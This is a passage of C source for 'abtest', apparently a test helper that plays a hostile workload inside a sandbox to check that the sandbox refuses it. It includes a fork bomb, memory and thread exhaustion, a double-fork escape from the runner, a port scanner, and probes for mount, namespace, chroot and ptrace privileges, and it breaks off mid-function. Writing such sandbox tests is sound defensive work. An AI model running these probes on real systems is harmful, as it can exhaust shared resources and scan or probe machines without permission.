/* abtest: the multi-call helper integration tests run inside a minimal rootfs
 * (statically linked, so the rootfs needs no libc).  `abtest --help` lists
 * the commands.
 *
 * Output is machine-parseable: `key=value` lines or a single value; probes
 * print "ok" or the errno name (EPERM, ENETUNREACH ...), never prose.
 * Exit status: 0 the command or the probed operation succeeded, 1 it was
 * refused (the errno name is printed), 2 usage error, 3 abtest itself broke.
 *
 * It plays the hostile workload: a tool to provoke the sandbox, not part of
 * it.  No libc features that need NSS or dlopen (getpwnam, getaddrinfo), so
 * static linking stays clean. */
#include "config.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum
{
  EXIT_REFUSED = 1,
  EXIT_USAGE = 2,
  EXIT_BROKEN = 3,
};

#define N_ELEM(a) (sizeof (a) / sizeof ((a)[0]))
#define IS(a, b) (strcmp ((a), (b)) == 0)

extern char **environ;

static const char *
errname (int e)
{
  const char *n = strerrorname_np (e);
  return n ? n : "EUNKNOWN";
}

/* Print "ok" or the errno name of a probe; return the exit status.  Callers
   store the result first: `rc = f (); return report (rc, errno);`, as the
   order in which arguments are evaluated is unspecified. */
static int
report (long rc, int e)
{
  puts (rc >= 0 ? "ok" : errname (e));
  return rc >= 0 ? 0 : EXIT_REFUSED;
}

static void __attribute__ ((noreturn, format (printf, 1, 2))) die (const char *fmt, ...)
{
  va_list ap;
  int e = errno;

  fputs ("abtest: ", stderr);
  va_start (ap, fmt);
  vfprintf (stderr, fmt, ap);
  va_end (ap);
  fprintf (stderr, ": %s\n", strerror (e));
  exit (EXIT_BROKEN);
}

static void __attribute__ ((noreturn, format (printf, 1, 2))) usage_error (const char *fmt, ...)
{
  va_list ap;

  fputs ("abtest: ", stderr);
  va_start (ap, fmt);
  vfprintf (stderr, fmt, ap);
  va_end (ap);
  fputc ('\n', stderr);
  exit (EXIT_USAGE);
}

static long long
num (const char *s)
{
  char *end;
  long long v;

  errno = 0;
  v = strtoll (s, &end, 0);
  if (errno != 0 || end == s || *end != '\0')
    usage_error ("`%s` is not a number", s);
  return v;
}

/* A signal by name ("TERM", "SIGTERM") or number. */
static int
signum (const char *s)
{
  int i;

  if (s[0] >= '0' && s[0] <= '9')
    return (int)num (s);
  if (strncmp (s, "SIG", 3) == 0)
    s += 3;
  for (i = 1; i < NSIG; i++)
    if (sigabbrev_np (i) && IS (sigabbrev_np (i), s))
      return i;
  usage_error ("unknown signal `%s`", s);
}

static void
nap_ms (long ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  while (nanosleep (&ts, &ts) < 0 && errno == EINTR)
    ;
}

static void __attribute__ ((noreturn)) sleep_forever (void)
{
  for (;;)
    pause ();
}

static int
write_all (int fd, const void *buf, size_t n)
{
  const char *p = buf;
  while (n > 0)
    {
      ssize_t w = write (fd, p, n);
      if (w < 0 && errno == EINTR)
        continue;
      if (w < 0)
        return -1;
      p += w;
      n -= (size_t)w;
    }
  return 0;
}

/* Print the values of KEYS from /proc/self/status as key=value, tabs made spaces. */
static int
print_status_keys (const char *const *keys, size_t n)
{
  FILE *f = fopen ("/proc/self/status", "re");
  char line[1024];

  if (f == NULL)
    return report (-1, errno);
  while (fgets (line, sizeof line, f))
    {
      char *colon = strchr (line, ':'), *v, *p;
      size_t i;
      if (colon == NULL)
        continue;
      *colon = '\0';
      for (i = 0; i < n && !IS (line, keys[i]); i++)
        ;
      if (i == n)
        continue;
      v = colon + 1 + strspn (colon + 1, " \t");
      for (p = v; *p; p++)
        if (*p == '\t')
          *p = ' ';
      for (p = v + strlen (v); p > v && (p[-1] == ' ' || p[-1] == '\n');)
        *--p = '\0';
      printf ("%s=%s\n", keys[i], v);
    }
  fclose (f);
  return 0;
}

/* ---- process and exit status ---------------------------------------------- */

/* true, false, exit N */
static int
cmd_exit (int argc, char **argv)
{
  return IS (argv[0], "exit") ? (int)num (argv[1]) : IS (argv[0], "false");
}

/* Die of SIG through a real fault.  The kernel ignores a signal that pid 1 of
   a pid namespace sends itself without a handler, even SIGKILL, but a fault
   (force_sig) kills it as it kills any process. */
static void
provoke_fault (int sig)
{
  long page = sysconf (_SC_PAGESIZE);
  volatile int zero = 0;
  int fd;
  char *p = MAP_FAILED;

  if (sig == SIGSEGV)
    p = mmap (NULL, (size_t)page, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  else if (sig == SIGBUS && (fd = memfd_create ("abtest-sigbus", MFD_CLOEXEC)) >= 0)
    p = mmap (NULL, (size_t)page, PROT_WRITE, MAP_SHARED, fd, 0); /* beyond the end of an empty file */
  else if (sig == SIGFPE)
    zero = 1 / zero;
  else if (sig == SIGILL)
    __builtin_trap ();
  if (p != MAP_FAILED)
    *(volatile char *)p = 1;
}

static int
cmd_kill_self (int argc, char **argv)
{
  int sig = signum (argv[1]);
  struct rlimit no_core = { 0, 0 };
  sigset_t set;

  /* No core file: a test that asks for SIGSEGV wants the status, not a dump on the host. */
  setrlimit (RLIMIT_CORE, &no_core);
  signal (sig, SIG_DFL);
  sigemptyset (&set);
  sigaddset (&set, sig);
  sigprocmask (SIG_UNBLOCK, &set, NULL);
  kill (getpid (), sig);
  provoke_fault (sig);
  puts ("survived");
  return EXIT_REFUSED;
}

/* sleep SECS, sleep-forever */
static int
cmd_sleep (int argc, char **argv)
{
  if (IS (argv[0], "sleep-forever"))
    sleep_forever ();
  nap_ms ((long)(strtod (argv[1], NULL) * 1000));
  return 0;
}

static int
cmd_wait_signal (int argc, char **argv)
{
  sigset_t set;
  siginfo_t si;
  int i;

  sigemptyset (&set);
  for (i = 1; i < argc; i++)
    sigaddset (&set, signum (argv[i]));
  if (sigprocmask (SIG_BLOCK, &set, NULL) < 0)
    die ("sigprocmask");
  puts ("ready");
  while (sigwaitinfo (&set, &si) < 0)
    if (errno != EINTR)
      die ("sigwaitinfo");
  if (sigabbrev_np (si.si_signo))
    printf ("signal=SIG%s\nsender_pid=%d\n", sigabbrev_np (si.si_signo), (int)si.si_pid);
  else
    printf ("signal=%d\nsender_pid=%d\n", si.si_signo, (int)si.si_pid);
  return 0;
}

/* wait-signalfd SIG...: the same, read from a signalfd (as catatonit
   does) instead of sigwaitinfo. */
static int
cmd_wait_signalfd (int argc, char **argv)
{
  struct signalfd_siginfo si;
  sigset_t set;
  int fd;

  sigemptyset (&set);
  for (int i = 1; i < argc; i++)
    sigaddset (&set, signum (argv[i]));
  if (sigprocmask (SIG_BLOCK, &set, NULL) < 0 || (fd = signalfd (-1, &set, SFD_CLOEXEC)) < 0)
    die ("signalfd");
  puts ("ready");
  fflush (stdout);
  while (read (fd, &si, sizeof si) != (ssize_t)sizeof si)
    if (errno != EINTR)
      die ("read signalfd");
  if (sigabbrev_np ((int)si.ssi_signo))
    printf ("signal=SIG%s\n", sigabbrev_np ((int)si.ssi_signo));
  else
    printf ("signal=%u\n", si.ssi_signo);
  return 0;
}

/* What a daemonizing tool call does to escape its runner: fork a child that
   calls setsid and forks the worker, then exits, so the worker is orphaned
   (reparented to the container's init), in its own session, with stdio on
   /dev/null (so it holds no pipe of the caller open).  Returns the worker's
   pid in the caller, once the worker exists; returns 0 in the worker. */
static pid_t
double_fork (void)
{
  pid_t child, worker = -1;
  int p[2];

  if (pipe2 (p, O_CLOEXEC) < 0 || (child = fork ()) < 0)
    die ("pipe2/fork");
  if (child == 0)
    {
      setsid ();
      worker = fork ();
      if (worker == 0)
        {
          int null = open ("/dev/null", O_RDWR | O_CLOEXEC);
          for (int fd = 0; fd <= 2; fd++)
            if (null < 0 || dup2 (null, fd) < 0)
              close (fd);
          return 0;
        }
      write_all (p[1], &worker, sizeof worker);
      _exit (worker < 0 ? EXIT_BROKEN : 0);
    }
  close (p[1]);
  if (read (p[0], &worker, sizeof worker) != (ssize_t)sizeof worker || worker < 0)
    die ("double fork");
  close (p[0]);
  waitpid (child, NULL, 0);
  return worker;
}

/* orphan-writer PATH MS: the worker writes "written" to PATH after MS ms. */
static int
cmd_orphan_writer (int argc, char **argv)
{
  long ms = (long)num (argv[2]);
  pid_t worker = double_fork ();
  int fd;

  if (worker != 0)
    {
      printf ("pid=%d\n", (int)worker);
      return 0;
    }
  nap_ms (ms);
  fd = open (argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0)
    write_all (fd, "written\n", 8);
  _exit (0);
}

static int
cmd_setsid_sleeper (int argc, char **argv)
{
  pid_t worker = double_fork ();

  if (worker == 0)
    sleep_forever ();
  printf ("pid=%d\n", (int)worker);
  return 0;
}

/* forkbomb [MAX]: fork until fork fails (or MAX children); children sleep forever. */
static int
cmd_forkbomb (int argc, char **argv)
{
  long max = argc > 1 ? (long)num (argv[1]) : 1000000, count = 0;
  int e = 0;
  pid_t pid;

  fflush (stdout);
  for (; count < max; count++)
    {
      if ((pid = fork ()) < 0)
        {
          e = errno;
          break;
        }
      if (pid == 0)
        sleep_forever ();
    }
  printf ("forks=%ld\nerrno=%s\n", count, e ? errname (e) : "none");
  return 0;
}

static int
cmd_memhog (int argc, char **argv)
{
  size_t mb = (size_t)num (argv[1]), i, off, page = (size_t)sysconf (_SC_PAGESIZE);

  for (i = 0; i < mb; i++)
    {
      char *p = malloc (1 << 20);
      if (p == NULL)
        {
          printf ("touched_mb=%zu\nerrno=ENOMEM\n", i);
          return EXIT_REFUSED;
        }
      /* Touch every page so the memory is charged, not merely reserved. */
      for (off = 0; off < (1 << 20); off += page)
        p[off] = 1;
    }
  printf ("touched_mb=%zu\n", mb);
  return 0;
}

static void *
thread_park (void *arg)
{
  sleep_forever ();
}

static int
cmd_threads (int argc, char **argv)
{
  long n = (long)num (argv[1]), i;
  pthread_attr_t attr;
  pthread_t t;
  int e = 0;

  pthread_attr_init (&attr);
  pthread_attr_setstacksize (&attr, 64 * 1024);
  for (i = 0; i < n && (e = pthread_create (&t, &attr, thread_park, NULL)) == 0; i++)
    ;
  printf ("threads=%ld\nerrno=%s\n", i, e ? errname (e) : "none");
  return e ? EXIT_REFUSED : 0;
}

/* ---- files ------------------------------------------------------------------ */

static int
cmd_echo (int argc, char **argv)
{
  for (int i = 1; i < argc; i++)
    printf ("%s%s", i > 1 ? " " : "", argv[i]);
  putchar ('\n');
  return 0;
}

/* One-call probes on a path: "ok" or the errno name. */
static int
cmd_path_op (int argc, char **argv)
{
  const char *cmd = argv[0], *path = argv[1];
  long rc;

  if (IS (cmd, "mkdir"))
    rc = mkdir (path, argc > 2 ? (mode_t)strtoul (argv[2], NULL, 8) : 0755);
  else if (IS (cmd, "write"))
    {
      rc = open (path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
      if (rc >= 0 && (write_all ((int)rc, argv[2], strlen (argv[2])) < 0 || close ((int)rc) < 0))
        rc = -1;
    }
  else if (IS (cmd, "touch"))
    rc = open (path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  else if (IS (cmd, "open-dev"))
    rc = open (path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
  else if (IS (cmd, "try-chroot"))
    rc = chroot (path ? path : "/");
  else /* try-sethostname */
    rc = sethostname (path ? path : "abtest-probe", strlen (path ? path : "abtest-probe"));
  return report (rc, errno);
}

static int
cmd_cat (int argc, char **argv)
{
  char buf[65536];
  ssize_t r = 0;
  int fd = open (argv[1], O_RDONLY | O_CLOEXEC);

  if (fd < 0)
    return report (-1, errno);
  fflush (stdout);
  while ((r = read (fd, buf, sizeof buf)) > 0 || (r < 0 && errno == EINTR))
    if (r > 0 && write_all (STDOUT_FILENO, buf, (size_t)r) < 0)
      break;
  return r != 0 ? report (-1, errno) : 0;
}

static int
cmp_str (const void *a, const void *b)
{
  return strcmp (*(char *const *)a, *(char *const *)b);
}

static int
cmd_ls (int argc, char **argv)
{
  DIR *d = opendir (argv[1]);
  struct dirent *de;
  char **names = NULL;
  size_t n = 0, i;

  if (d == NULL)
    return report (-1, errno);
  while ((de = readdir (d)) != NULL)
    if (!IS (de->d_name, ".") && !IS (de->d_name, ".."))
      {
        names = realloc (names, (n + 1) * sizeof *names);
        if (names == NULL || (names[n++] = strdup (de->d_name)) == NULL)
          die ("out of memory");
      }
  closedir (d);
  qsort (names, n, sizeof *names, cmp_str);
  for (i = 0; i < n; i++)
    puts (names[i]);
  return 0;
}

static int
cmd_stat (int argc, char **argv)
{
  static const char *const types[16]
      = { [S_IFREG >> 12] = "file",   [S_IFDIR >> 12] = "dir",   [S_IFLNK >> 12] = "symlink",
          [S_IFCHR >> 12] = "char",   [S_IFBLK >> 12] = "block", [S_IFIFO >> 12] = "fifo",
          [S_IFSOCK >> 12] = "socket" };
  const char *type;
  struct stat st;

  if (lstat (argv[1], &st) < 0)
    return report (-1, errno);
  type = types[(st.st_mode & S_IFMT) >> 12];
  printf ("type=%s\nmode=%04o\nuid=%u\ngid=%u\nrdev=%u:%u\nino=%llu\ndev=%u:%u\nsize=%lld\nnlink=%lu\n",
          type ? type : "unknown", (unsigned)(st.st_mode & 07777), (unsigned)st.st_uid, (unsigned)st.st_gid,
          major (st.st_rdev), minor (st.st_rdev), (unsigned long long)st.st_ino, major (st.st_dev),
          minor (st.st_dev), (long long)st.st_size, (unsigned long)st.st_nlink);
  return 0;
}

static int
cmd_readlink (int argc, char **argv)
{
  char buf[PATH_MAX];
  ssize_t n = readlink (argv[1], buf, sizeof buf - 1);

  if (n < 0)
    return report (-1, errno);
  buf[n] = '\0';
  puts (buf);
  return 0;
}

/* write-bytes N [binary|text|control], stderr-bytes N [...]: exactly N bytes.
   Text is a-z in lines of 64; binary is xorshift32, so a test can regenerate
   it; control is all 0x01, which JSON must escape as 6 characters. */
static int
cmd_write_bytes (int argc, char **argv)
{
  long long n = num (argv[1]), done = 0;
  bool binary = argc > 2 && IS (argv[2], "binary"), control = argc > 2 && IS (argv[2], "control");
  int fd = IS (argv[0], "stderr-bytes") ? STDERR_FILENO : STDOUT_FILENO;
  uint32_t x = 2463534242u;
  char buf[65536];
  size_t k, i;

  fflush (stdout);
  for (; done < n; done += (long long)k)
    {
      k = n - done < (long long)sizeof buf ? (size_t)(n - done) : sizeof buf;
      for (i = 0; i < k; i++)
        {
          long long pos = done + (long long)i;
          x ^= x << 13;
          x ^= x >> 17;
          x ^= x << 5;
          buf[i] = binary ? (char)(x & 0xff) : control ? '\x01' : pos % 64 == 63 ? '\n' : (char)('a' + pos % 26);
        }
      if (write_all (fd, buf, k) < 0)
        return report (-1, errno);
    }
  return 0;
}

static int
cmd_read_stdin (int argc, char **argv)
{
  char buf[65536];
  long long total = 0;
  ssize_t r;

  while ((r = read (STDIN_FILENO, buf, sizeof buf)) != 0)
    if (r > 0)
      total += r;
    else if (errno != EINTR)
      return report (-1, errno);
  printf ("bytes=%lld\n", total);
  return 0;
}

/* sysctl NAME: the value of /proc/sys/NAME (dots or slashes), first line. */
static int
cmd_sysctl (int argc, char **argv)
{
  char path[PATH_MAX], buf[4096] = "", *p;
  FILE *f;

  snprintf (path, sizeof path, "/proc/sys/%s", argv[1]);
  for (p = path + strlen ("/proc/sys/"); *p; p++)
    if (*p == '.')
      *p = '/';
  if ((f = fopen (path, "re")) == NULL)
    return report (-1, errno);
  if (fgets (buf, sizeof buf, f) == NULL && ferror (f))
    {
      fclose (f);
      return report (-1, EIO);
    }
  fclose (f);
  buf[strcspn (buf, "\n")] = '\0';
  for (p = buf; *p; p++)
    if (*p == '\t')
      *p = ' ';
  puts (buf);
  return 0;
}

/* ---- identity and kernel view ----------------------------------------------- */

static int
cmd_status (int argc, char **argv)
{
  static const char *const keys[] = { "Uid",    "Gid",    "Groups",     "CapInh",  "CapPrm", "CapEff",
                                      "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "NSpid" };
  return print_status_keys (keys, N_ELEM (keys));
}

/* pidns: the pid as seen here, and the NSpid line (outermost namespace first). */
static int
cmd_pidns (int argc, char **argv)
{
  static const char *const keys[] = { "NSpid" };
  printf ("pid=%d\nppid=%d\n", (int)getpid (), (int)getppid ());
  return print_status_keys (keys, 1);
}

static const char *const ns_names[] = {
  "cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time", "time_for_children", "user", "uts"
};

static int
cmd_ns (int argc, char **argv)
{
  for (size_t i = 0; i < N_ELEM (ns_names); i++)
    {
      char path[64];
      struct stat st;
      snprintf (path, sizeof path, "/proc/self/ns/%s", ns_names[i]);
      if (stat (path, &st) < 0)
        printf ("%s=%s\n", ns_names[i], errname (errno));
      else
        printf ("%s=%llu\n", ns_names[i], (unsigned long long)st.st_ino);
    }
  return 0;
}

static int
cmd_cwd (int argc, char **argv)
{
  char buf[PATH_MAX];
  struct stat st;

  if (getcwd (buf, sizeof buf) == NULL || stat (".", &st) < 0)
    return report (-1, errno);
  printf ("cwd=%s\ndev=%u:%u\nino=%llu\n", buf, major (st.st_dev), minor (st.st_dev),
          (unsigned long long)st.st_ino);
  return 0;
}

/* fds: every open fd (but the one reading /proc/self/fd) with its target. */
static int
cmd_fds (int argc, char **argv)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *de;
  char path[64], target[PATH_MAX];
  ssize_t n;

  if (d == NULL)
    return report (-1, errno);
  while ((de = readdir (d)) != NULL)
    {
      if (de->d_name[0] == '.' || atoi (de->d_name) == dirfd (d))
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%s", de->d_name);
      if ((n = readlink (path, target, sizeof target - 1)) < 0)
        continue;
      target[n] = '\0';
      printf ("%s=%s\n", de->d_name, target);
    }
  closedir (d);
  return 0;
}

static int
cmd_env (int argc, char **argv)
{
  for (char **e = environ; *e; e++)
    puts (*e);
  return 0;
}

/* keyring: the serial of the session keyring (keyctl
   KEYCTL_GET_KEYRING_ID of KEY_SPEC_SESSION_KEYRING, not created), or the
   error. */
static int
cmd_keyring (int argc, char **argv)
{
  long id = syscall (SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0);

  if (id < 0)
    printf ("session=error %s\n", strerror (errno));
  else
    printf ("session=%ld\n", id);
  return 0;
}

static int
cmd_getuid (int argc, char **argv)
{
  gid_t groups[256];
  int n = getgroups (256, groups);

  printf ("uid=%u\neuid=%u\ngid=%u\negid=%u\ngroups=", (unsigned)getuid (), (unsigned)geteuid (),
          (unsigned)getgid (), (unsigned)getegid ());
  for (int i = 0; i < n; i++)
    printf ("%s%u", i ? "," : "", (unsigned)groups[i]);
  putchar ('\n');
  return 0;
}

/* hostname, domainname */
static int
cmd_uname (int argc, char **argv)
{
  struct utsname u;

  if (uname (&u) < 0)
    return report (-1, errno);
  puts (IS (argv[0], "domainname") ? u.domainname : u.nodename);
  return 0;
}

static int
cmd_rlimits (int argc, char **argv)
{
#define RL(r)                                                                                                \
  {                                                                                                          \
#r, r                                                                                                    \
  }
  static const struct
  {
    const char *name;
    int res;
  } lim[] = { RL (RLIMIT_AS),     RL (RLIMIT_CORE),   RL (RLIMIT_CPU),        RL (RLIMIT_DATA),
              RL (RLIMIT_FSIZE),  RL (RLIMIT_LOCKS),  RL (RLIMIT_MEMLOCK),    RL (RLIMIT_MSGQUEUE),
              RL (RLIMIT_NICE),   RL (RLIMIT_NOFILE), RL (RLIMIT_NPROC),      RL (RLIMIT_RSS),
              RL (RLIMIT_RTPRIO), RL (RLIMIT_RTTIME), RL (RLIMIT_SIGPENDING), RL (RLIMIT_STACK) };
#undef RL
  for (size_t i = 0; i < N_ELEM (lim); i++)
    {
      struct rlimit r;
      char v[2][32];
      if (getrlimit (lim[i].res, &r) < 0)
        return report (-1, errno);
      snprintf (v[0], sizeof v[0], "%llu", (unsigned long long)r.rlim_cur);
      snprintf (v[1], sizeof v[1], "%llu", (unsigned long long)r.rlim_max);
      printf ("%s=%s:%s\n", lim[i].name, r.rlim_cur == RLIM_INFINITY ? "unlimited" : v[0],
              r.rlim_max == RLIM_INFINITY ? "unlimited" : v[1]);
    }
  return 0;
}

/* sigmask: the blocked and the ignored signals, by name (a number where
   there is none).  Asked of the kernel, not of the C library, which hides
   the signals it keeps for itself (32 and 33 in glibc). */
static void
print_sigbits (const char *key, uint64_t bits)
{
  const char *sep = "";

  printf ("%s=", key);
  for (int i = 1; i <= 64; i++)
    if (bits & (UINT64_C (1) << (i - 1)))
      {
        if (sigabbrev_np (i))
          printf ("%sSIG%s", sep, sigabbrev_np (i));
        else
          printf ("%s%d", sep, i);
        sep = ",";
      }
  putchar ('\n');
}

static int
cmd_sigmask (int argc, char **argv)
{
  uint64_t blocked = 0, ignored = 0;

  syscall (SYS_rt_sigprocmask, SIG_BLOCK, NULL, &blocked, sizeof blocked);
  for (int i = 1; i <= 64; i++)
    {
      struct { unsigned long handler, flags, restorer; uint64_t mask; } k = { 0 };
      if (syscall (SYS_rt_sigaction, i, NULL, &k, sizeof (uint64_t)) == 0 && k.handler == (unsigned long)SIG_IGN)
        ignored |= UINT64_C (1) << (i - 1);
    }
  print_sigbits ("blocked", blocked);
  print_sigbits ("ignored", ignored);
  return 0;
}

static int
cmd_tty (int argc, char **argv)
{
  int ctty;

  for (int fd = 0; fd <= 2; fd++)
    {
      char *name = isatty (fd) ? ttyname (fd) : NULL;
      printf ("fd%d_isatty=%d\nfd%d_ttyname=%s\n", fd, isatty (fd), fd, name ? name : "none");
    }
  /* O_NOCTTY: probing must not make a tty our controlling terminal. */
  ctty = open ("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  printf ("ctty=%s\n", ctty >= 0 ? "yes" : errname (errno));
  if (ctty >= 0)
    printf ("ctty_sid=%d\nctty_pgrp=%d\n", (int)tcgetsid (ctty), (int)tcgetpgrp (ctty));
  printf ("sid=%d\npgrp=%d\n", (int)getsid (0), (int)getpgrp ());
  return 0;
}

/* ---- network ------------------------------------------------------------------ */

static int
parse_addr (const char *s, int port, struct sockaddr_storage *ss, socklen_t *len)
{
  struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
  struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

  memset (ss, 0, sizeof *ss);
  if (inet_pton (AF_INET, s, &in4->sin_addr) == 1)
    {
      in4->sin_family = AF_INET;
      in4->sin_port = htons ((uint16_t)port);
      *len = sizeof *in4;
    }
  else if (inet_pton (AF_INET6, s, &in6->sin6_addr) == 1)
    {
      in6->sin6_family = AF_INET6;
      in6->sin6_port = htons ((uint16_t)port);
      *len = sizeof *in6;
    }
  else
    usage_error ("`%s` is not a numeric IPv4 or IPv6 address", s);
  return ss->ss_family;
}

/* One attempt to reach ADDR:PORT over tcp|udp: 0 or the errno (ETIMEDOUT
   after 3 s). */
static int
try_connect (const char *proto, const char *addr, long port)
{
  bool udp = IS (proto, "udp");
  struct sockaddr_storage ss;
  socklen_t len, elen = sizeof (int);
  int af = parse_addr (addr, (int)port, &ss, &len), fd, e = 0;
  struct pollfd pfd;

  if (!udp && !IS (proto, "tcp"))
    usage_error ("connect: expected tcp or udp, got `%s`", proto);
  fd = socket (af, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (fd < 0)
    return errno;
  if (connect (fd, (struct sockaddr *)&ss, len) < 0)
    e = errno;
  if (e == EINPROGRESS)
    {
      pfd = (struct pollfd){ fd, POLLOUT, 0 };
      if (poll (&pfd, 1, 3000) == 0)
        e = ETIMEDOUT;
      else if (getsockopt (fd, SOL_SOCKET, SO_ERROR, &e, &elen) < 0)
        e = errno;
    }
  /* A connected UDP socket has sent nothing yet: send one datagram so that
     filtering on the send path (EPERM from a firewall, ENETUNREACH) shows. */
  if (e == 0 && udp && send (fd, "x", 1, 0) < 0)
    e = errno;
  close (fd);
  return e;
}

/* connect tcp|udp ADDR PORT: "ok" or the errno name (ETIMEDOUT after 3 s). */
static int
cmd_connect (int argc, char **argv)
{
  int e = try_connect (argv[1], argv[2], num (argv[3]));

  return report (e ? -1 : 0, e);
}

/* scan tcp|udp ADDR FIRST COUNT: one attempt to each of COUNT ports from
   FIRST on; prints how many ended how ("EPERM 300", "ok 2 ECONNREFUSED 3")
   in the order the outcomes first appeared. */
static int
cmd_scan (int argc, char **argv)
{
  long first = num (argv[3]), count = num (argv[4]), n[8] = { 0 }, i;
  int seen[8], kinds = 0, k;

  for (i = 0; i < count; i++)
    {
      int e = try_connect (argv[1], argv[2], first + i);

      for (k = 0; k < kinds && seen[k] != e; k++)
        ;
      if (k == kinds && kinds < 8)
        seen[kinds++] = e;
      if (k < 8)
        n[k]++;
    }
  for (k = 0; k < kinds; k++)
    printf ("%s%s %ld", k ? " " : "", seen[k] ? errname (seen[k]) : "ok", n[k]);
  printf ("\n");
  return kinds == 1 && seen[0] == 0 ? 0 : EXIT_REFUSED;
}

/* ping4|ping6 ADDR: one ICMP echo through an unprivileged ping socket, or a raw
   socket (CAP_NET_RAW) when ping sockets are off; ok, timeout (2 s) or errno. */
static int
cmd_ping (int argc, char **argv)
{
  bool v6 = IS (argv[0], "ping6");
  struct sockaddr_storage ss;
  socklen_t len;
  unsigned char pkt[64] = { v6 ? ICMP6_ECHO_REQUEST : ICMP_ECHO, 0, 0, 0, 0x12, 0, 0, 1 }, reply[1500];
  int af = parse_addr (argv[1], 0, &ss, &len), proto = v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP, fd, tries;
  uint32_t sum = 0;
  size_t off;
  ssize_t n;

  if (af != (v6 ? AF_INET6 : AF_INET))
    usage_error ("%s: wrong address family for `%s`", argv[0], argv[1]);
  if ((fd = socket (af, SOCK_DGRAM | SOCK_CLOEXEC, proto)) < 0)
    fd = socket (af, SOCK_RAW | SOCK_CLOEXEC, proto);
  if (fd < 0)
    return report (-1, errno);
  /* The kernel computes the ICMPv6 checksum; the ICMPv4 one is ours on a raw socket. */
  for (off = 0; off < sizeof pkt; off += 2)
    sum += (uint32_t)(pkt[off] << 8 | pkt[off + 1]);
  sum = ~((sum & 0xffff) + (sum >> 16)) & 0xffff;
  pkt[2] = v6 ? 0 : (unsigned char)(sum >> 8);
  pkt[3] = v6 ? 0 : (unsigned char)sum;
  if (sendto (fd, pkt, sizeof pkt, 0, (struct sockaddr *)&ss, len) < 0)
    return report (-1, errno);
  for (tries = 0; tries < 20; tries++)
    {
      struct pollfd pfd = { fd, POLLIN, 0 };
      if (poll (&pfd, 1, 100) <= 0)
        continue;
      if ((n = recv (fd, reply, sizeof reply, 0)) < 0)
        return report (-1, errno);
      /* A raw IPv4 socket delivers the IP header too. */
      off = !v6 && n > 0 && (reply[0] >> 4) == 4 ? (size_t)(reply[0] & 0x0f) * 4 : 0;
      if ((size_t)n > off && reply[off] == (v6 ? ICMP6_ECHO_REPLY : ICMP_ECHOREPLY))
        return report (0, 0);
    }
  puts ("timeout");
  return EXIT_REFUSED;
}

/* ---- privileged operations the sandbox should refuse ------------------------ */

static int
cmd_try_mount (int argc, char **argv)
{
  const char *target = argc > 1 ? argv[1] : "/tmp";
  int rc = mount ("abtest", target, "tmpfs", MS_NOSUID | MS_NODEV, "size=64k"), e = errno;

  if (rc == 0)
    umount2 (target, MNT_DETACH);
  return report (rc, e);
}

static const struct
{
  const char *name;
  int flag;
} ns_flags[] = { { "user", CLONE_NEWUSER },     { "mnt", CLONE_NEWNS },   { "net", CLONE_NEWNET },
                 { "pid", CLONE_NEWPID },       { "uts", CLONE_NEWUTS },  { "ipc", CLONE_NEWIPC },
                 { "cgroup", CLONE_NEWCGROUP }, { "time", CLONE_NEWTIME } };

/* Try unshare(flag) or setns(open(path)) in a child, so that success does
   not change this process; returns 0 or the errno. */
static int
probe_in_child (int flag, const char *path)
{
  int status, fd;
  pid_t pid = fork ();

  if (pid < 0)
    die ("fork");
  if (pid == 0 && path == NULL)
    _exit (unshare (flag) < 0 ? errno : 0);
  if (pid == 0)
    _exit ((fd = open (path, O_RDONLY | O_CLOEXEC)) < 0 || setns (fd, 0) < 0 ? errno : 0);
  if (waitpid (pid, &status, 0) < 0)
    die ("waitpid");
  return WIFEXITED (status) ? WEXITSTATUS (status) : EINTR;
}

/* try-unshare [NS], try-setns [NSFILE]: every namespace type (setns: into
   our own namespaces, which still needs CAP_SYS_ADMIN) or just the one
   named; "name=ok|ERRNO" lines; exit 0 only if everything succeeded. */
static int
cmd_try_ns (int argc, char **argv)
{
  bool setns_ = IS (argv[0], "try-setns");
  char path[64];
  int rc = 0, e;

  if (setns_ && argc > 1)
    {
      e = probe_in_child (0, argv[1]);
      return report (e ? -1 : 0, e);
    }
  for (size_t i = 0; i < N_ELEM (ns_flags); i++)
    {
      if (argc > 1 && !IS (argv[1], ns_flags[i].name))
        continue;
      snprintf (path, sizeof path, "/proc/self/ns/%s", ns_flags[i].name);
      e = probe_in_child (ns_flags[i].flag, setns_ ? path : NULL);
      printf ("%s=%s\n", ns_flags[i].name, e ? errname (e) : "ok");
      rc = e ? EXIT_REFUSED : rc;
    }
  return rc;
}

/* try-ptrace [PID]: PTRACE_ATTACH to PID, or to a child of ours. */
static int
cmd_try_ptrace (int argc, char **argv)
{
  pid_t target = argc > 1 ? (pid_t)num (argv[1]) : fork ();
  long rc;
  int e;

  if (target < 0)
    die ("fork");
  if (target == 0)
